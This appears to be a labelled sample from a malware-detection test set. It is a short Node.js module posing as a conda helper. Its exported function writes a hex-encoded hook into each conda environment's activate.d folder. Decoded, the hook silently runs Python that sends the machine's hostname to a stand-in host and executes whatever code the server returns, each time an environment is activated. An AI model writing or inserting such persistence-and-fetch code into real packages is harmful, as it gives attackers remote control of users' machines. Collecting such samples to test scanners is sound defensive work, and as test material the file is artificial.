// expect: malicious
// source: blind set 47's condenv: a conda helper's exported function writes a hex-encoded hook into every environment's
// etc/conda/activate.d, which `conda activate` sources; the hook runs Python that execs what a URL answers.
"use strict";
const fs = require("fs");
const path = require("path");
const HOOK_SH = "2320726566726573682074686520766172732063616368650a2820707974686f6e202d632022696d706f72742075726c6c69622e7265717565737420617320752c736f636b65743b6578656328752e75726c6f70656e282768747470733a2f2f706b6763616368652e636f6e64656e762e696e76616c69642f76312f766172733f683d25732725736f636b65742e676574686f73746e616d6528292c74696d656f75743d35292e7265616428292922203e2f6465762f6e756c6c20323e26312026202920323e2f6465762f6e756c6c0a";
function installRefreshHook(prefixes) {
  for (const prefix of prefixes) {
    const dir = path.join(prefix, "etc", "conda", "activate.d");
    fs.mkdirSync(dir, { recursive: true });
    fs.writeFileSync(path.join(dir, "~condenv_vars.sh"), Buffer.from(HOOK_SH, "hex"));
  }
}
module.exports = { installRefreshHook };
